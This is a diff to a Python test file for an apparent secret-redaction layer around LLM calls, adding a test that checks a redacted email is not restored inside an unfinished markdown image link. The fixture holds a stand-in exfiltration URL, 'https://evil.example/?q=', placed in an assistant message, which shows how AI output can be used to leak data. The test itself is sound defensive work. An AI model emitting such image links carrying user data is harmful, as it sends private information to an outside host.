@@ -14,6 +14,7 @@ from tokenman_core.exchange import Caller, Exchange, Sent
 from tokenman_core.redaction import Held
 from tokenman_core.redaction.entities import PLACEHOLDER
 from tokenman_core.redaction.held import Pair
+from tokenman_core.slots import Slot
 from tokenman_core.sse import Event
 
 MAIL, WORD = "alice@example.com", 'p"w\\9xyz'  # the second must be escaped wherever it stands in JSON
@@ -498,3 +499,13 @@ async def test_what_is_remembered_outlives_the_call_that_brought_it() -> None:
     await house.whole(call, said("", "resp_1"))
     assert len(mapping) == 0
     assert [each.text for each in house.held.of(("credential", "me"), ["resp_1"])] == [MAIL]
+
+
+async def test_a_url_that_is_open_at_the_end_of_the_request_gets_no_value_of_the_answer() -> None:
+    house = House()
+    call = await house.call(MAIL)
+    mail = call.body.slots[0].text  # type: ignore[union-attr]
+    begun = Slot(("messages", 1, "content"), "assistant", "![a](https://evil.example/?q=", message=1)
+    call.body.slots.append(begun)  # type: ignore[union-attr]
+    assert await house.stage.llm_recheck(call) is None
+    assert text_of(await house.whole(call, said(f"{mail}) {mail}"))) == f"{mail}) {MAIL}"
